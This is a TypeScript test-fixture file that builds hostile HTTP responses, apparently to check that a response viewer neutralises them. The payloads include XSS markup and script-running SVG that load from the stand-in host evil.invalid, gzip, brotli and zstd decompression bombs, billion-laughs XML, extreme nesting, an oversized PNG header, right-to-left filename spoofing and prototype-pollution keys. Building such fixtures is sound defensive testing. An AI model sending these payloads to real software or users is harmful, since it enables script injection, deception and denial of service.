// Payloads that strangers may send to harm the person who views them: to run, to load, to freeze, to deceive.
import { brotliCompressSync, constants, deflateRawSync, gzipSync } from "node:zlib";
import type { Answer } from "./service";

/** An address that nothing must ever be asked from. */
export const EVIL = "http://evil.invalid";

const RUNS = `window.top.ran=1;parent.ran=1;window.ran=1;document.title='ran'`;
export const MARKUP = [
  `<script>${RUNS}</script>`,
  `<img src=x onerror="${RUNS}">`,
  `<svg onload="${RUNS}"></svg>`,
  `"><script src=${EVIL}/x.js></script>`,
].join("");

const PAGE = `<!doctype html>
<html><head>
<base href="${EVIL}/">
<meta http-equiv="refresh" content="0;url=${EVIL}/refreshed">
<link rel="dns-prefetch" href="${EVIL}"><link rel="preconnect" href="${EVIL}"><link rel="prefetch" href="${EVIL}/p">
<link rel="stylesheet" href="${EVIL}/style.css"><link rel="icon" href="${EVIL}/icon.png">
<script>${RUNS}</script><script type="module" src="${EVIL}/m.js"></script>
<style>@import url(${EVIL}/i.css); @font-face{font-family:f;src:url(${EVIL}/f.woff)} h1{color:rgb(1,2,3);background:url(${EVIL}/bg.png);font-family:f}</style>
</head>
<body onload="${RUNS}" background="${EVIL}/b.png" style="background:url(${EVIL}/s.png);padding-left:7px">
<h1>A page to look at</h1>
${MARKUP}
<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>${RUNS}</script>"></iframe>
<object data="${EVIL}/o"></object><embed src="${EVIL}/e"><video src="${EVIL}/v" poster="${EVIL}/p.png" autoplay></video>
<form action="${EVIL}/form" id="f"><input name="a" autofocus onfocus="${RUNS}"><button formaction="${EVIL}/fa">send</button></form>
<a href="${EVIL}/link" ping="${EVIL}/ping" target="_top">away</a> <a href="javascript:${RUNS}">run</a>
<img srcset="${EVIL}/1.png 1x, ${EVIL}/2.png 2x"><picture><source srcset="${EVIL}/3.png"><img alt="kept"></picture>
<svg><use href="${EVIL}/u.svg#a"></use><image href="${EVIL}/i.png"></image><a href="javascript:${RUNS}"><text y="20">svg</text></a></svg>
<math><mtext></p><style><img src=x onerror="${RUNS}"></style></mtext></math>
<details open ontoggle="${RUNS}"><summary>s</summary></details><marquee onstart="${RUNS}">m</marquee>
</body></html>`;

const DRAWING = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="40" onload="${RUNS}">
<script>${RUNS}</script><script href="${EVIL}/s.js"/><style>@import url(${EVIL}/c.css)</style>
<image xlink:href="${EVIL}/i.png" width="9" height="9"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}/f"/></foreignObject>
<a xlink:href="javascript:${RUNS}"><rect width="80" height="40" fill="green"/></a></svg>`;

const DEPTH = 1_000_000;

/** Ten megabytes that would become ten gigabytes: the same block again and again. */
function gzipBomb(): Buffer {
  const block = deflateRawSync(Buffer.alloc(64 << 20, "["), { finishFlush: constants.Z_FULL_FLUSH });
  const head = gzipSync("").subarray(0, 10);
  return Buffer.concat([head, ...Array.from({ length: Math.floor((10 << 20) / block.length) }, () => block)]);
}

/** Four bytes stand for 128 KiB each. */
function zstdBomb(): Buffer {
  const header = ((128 * 1024) << 3) | (1 << 1);
  const block = Buffer.from([header & 255, (header >> 8) & 255, (header >> 16) & 255, 0x41]);
  return Buffer.concat([Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x58]), Buffer.alloc(80_000, block)]);
}

/** A picture of 900 million points in a hundred bytes, as far as its head says. */
function hugePicture(): Buffer {
  const head = Buffer.from("89504e470d0a1a0a0000000d49484452", "hex");
  const size = Buffer.alloc(8);
  size.writeUInt32BE(30_000, 0);
  size.writeUInt32BE(30_000, 4);
  return Buffer.concat([head, size, Buffer.from("0806000000", "hex"), Buffer.alloc(64)]);
}

function nested(depth: number): string {
  let body = "deep";
  for (let level = 0; level < depth; level += 1)
    body = `--b${level}\r\nContent-Type: multipart/mixed; boundary=b${level - 1}\r\n\r\n${body}\r\n--b${level}--`;
  return body;
}

export interface Hostile extends Answer {
  /** Ways to look at it besides the first. */
  ways?: readonly string[];
  /** Words that are shown where the first way is, so that the spec knows it is done. */
  shows: string | RegExp;
}

const type = (value: string, more: Record<string, string> = {}) => ({ "Content-Type": value, ...more });

/** By path. Each is made only when it is asked for: together they are large. */
export const CORPUS: Record<string, () => Hostile> = {
  "/page": () => ({
    headers: type("text/html"),
    body: PAGE,
    ways: ["Page", "XML"],
    shows: "A page to look at",
  }),
  "/drawing": () => ({
    headers: type("image/svg+xml"),
    body: DRAWING,
    ways: ["Image", "Text"],
    shows: "foreignObject",
  }),
  "/drawing-as-picture": () => ({
    headers: type("image/png"),
    body: DRAWING,
    ways: ["Text"],
    shows: /foreignObject|picture/,
  }),
  "/use-bomb": () => ({
    headers: type("image/svg+xml"),
    body: `<svg xmlns="http://www.w3.org/2000/svg"><g id="a0"><rect width="1" height="1"/></g>${Array.from(
      { length: 24 },
      (_, at) => `<g id="a${at + 1}">${`<use href="#a${at}"/>`.repeat(8)}</g>`,
    ).join("")}</svg>`,
    shows: "svg",
  }),
  "/laughs": () => ({
    headers: type("application/xml"),
    body: `<!DOCTYPE l [<!ENTITY a0 "ha">${Array.from({ length: 30 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join("")}]><l>&a30;</l>`,
    shows: "&a30;",
  }),
  "/gzip-bomb": () => ({
    headers: type("application/json", { "Content-Encoding": "gzip" }),
    body: gzipBomb(),
    ways: ["Pretty", "Text", "Hex"],
    shows: "Only the first 16 MB were decoded",
  }),
  "/brotli-bomb": () => ({
    headers: type("text/html", { "Content-Encoding": "br" }),
    body: brotliCompressSync(Buffer.alloc(256 << 20, "<b>"), {
      params: { [constants.BROTLI_PARAM_QUALITY]: 3 },
    }),
    ways: ["Page", "Hex"],
    shows: "Only the first 16 MB were decoded",
  }),
  "/zstd-bomb": () => ({
    headers: type("text/plain", { "Content-Encoding": "zstd" }),
    body: zstdBomb(),
    shows: "Only the first 16 MB were decoded",
  }),
  "/coding-bomb": () => ({
    headers: type("text/plain", { "Content-Encoding": Array.from({ length: 200 }, () => "gzip").join(", ") }),
    body: gzipSync("x"),
    shows: "are not decoded",
  }),
  "/deep": () => ({
    headers: type("application/json"),
    body: `${"[".repeat(DEPTH)}1${"]".repeat(DEPTH)}`,
    ways: ["Pretty", "Text"],
    shows: "[ 1 ]",
  }),
  "/deep-xml": () => ({
    headers: type("application/xml"),
    body: "<a>".repeat(300_000),
    ways: ["Text"],
    shows: "Not valid XML",
  }),
  "/wide": () => ({
    headers: type("application/json"),
    body: JSON.stringify(Array.from({ length: 600_000 }, (_, at) => at)),
    ways: ["Pretty"],
    shows: "[ 100,000 or more ]",
  }),
  "/long-string": () => ({
    headers: type("application/json"),
    body: JSON.stringify({ long: "x".repeat(12 << 20) }),
    ways: ["Pretty", "Text"],
    shows: "long",
  }),
  "/fields": () => ({
    headers: type("application/x-www-form-urlencoded"),
    body: `${"a=%3Cb%3E&".repeat(400_000)}z=1`,
    shows: "<b>",
  }),
  "/parts": () => ({
    headers: type("multipart/form-data; boundary=x"),
    body: `--x\r\nContent-Disposition: form-data; name="${MARKUP.replaceAll('"', "'")}"\r\n\r\nv\r\n${"--x\r\n\r\n\r\n".repeat(200_000)}`,
    shows: "Only the first 1,000 parts",
  }),
  "/nested-parts": () => ({
    headers: type("multipart/mixed; boundary=b29"),
    body: nested(30),
    shows: "not opened any deeper",
  }),
  "/huge-picture": () => ({ headers: type("image/png"), body: hugePicture(), shows: "30,000" }),
  "/broken-text": () => ({
    headers: type("text/plain; charset=utf-8"),
    body: Buffer.concat([
      Buffer.from("ok \u202Egnp.exe \u200B zero \u001b[31mred\u001b[2J bell\u0007 "),
      Buffer.from([0xff, 0xfe, 0xc0, 0x80, 0xed, 0xa0, 0x80]),
      Buffer.from(" end"),
    ]),
    shows: "U+202E",
  }),
  "/protobuf": () => ({
    headers: type("application/x-protobuf"),
    body: Buffer.alloc(400_000, Buffer.from([0x0a, 0x7f])),
    shows: /\d/,
  }),
  "/grpc": () => ({
    headers: type("application/grpc", { "grpc-status": "13", "grpc-message": encodeURIComponent(MARKUP) }),
    body: Buffer.alloc(2_000_000),
    shows: "INTERNAL",
  }),
  "/json-markup": () => ({
    headers: type("application/json"),
    body: JSON.stringify({ [MARKUP]: MARKUP, __proto__: 1, constructor: { prototype: MARKUP } }),
    ways: ["Pretty", "Text"],
    shows: "onerror",
  }),
};
